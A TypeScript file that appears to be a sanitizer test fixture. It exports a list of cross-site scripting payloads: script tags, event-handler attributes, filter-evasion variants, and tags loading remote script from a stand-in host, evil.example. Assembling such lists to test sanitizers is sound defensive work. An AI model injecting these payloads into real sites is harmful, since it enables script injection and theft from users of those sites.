const handlers = [
  'onclick onerror onload onmouseover onfocus onblur onanimationstart ontransitionend ontoggle',
  'onbeforetoggle onpointerenter onwheel onscroll onscrollend onbeforematch oncopy onpaste ondrag',
  'oncuechange onplay onloadstart onsecuritypolicyviolation onbeforeinput oncontextlost onslotchange',
].flatMap((line) => line.split(' '));

/** Script elements, event handlers and what else runs code. */
export const scripts: readonly string[] = [
  '<script>pwned()</script>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>pwned()</script>',
  '<script type=importmap>{"imports":{"lit":"//evil.example"}}</script>',
  '<script type=speculationrules>{"prefetch":[{"urls":["/logout"]}]}</script>',
  '<SCRIPT/SRC=//evil.example></SCRIPT>',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<script>pwned()',
  '<img src=x onerror=pwned()>',
  '<img/src=x/onerror=pwned()>',
  '<img src=x one onerror\n=\npwned()>',
  '<img src="x`onerror=pwned()">',
  '<body onload=pwned()>',
  '<details open ontoggle=pwned()>x</details>',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()></audio>',
  '<marquee onstart=pwned()>x</marquee>',
  '<p onclick=pwned() ONMOUSEOVER=pwned()>x</p>',
  '<a href=/x onclick=pwned()>x</a>',
  '<p x:onclick=pwned() xml:onclick=pwned()>x</p>',
  ...handlers.map((handler) => `<p tabindex=0 ${handler}="pwned()">x</p>`),
];
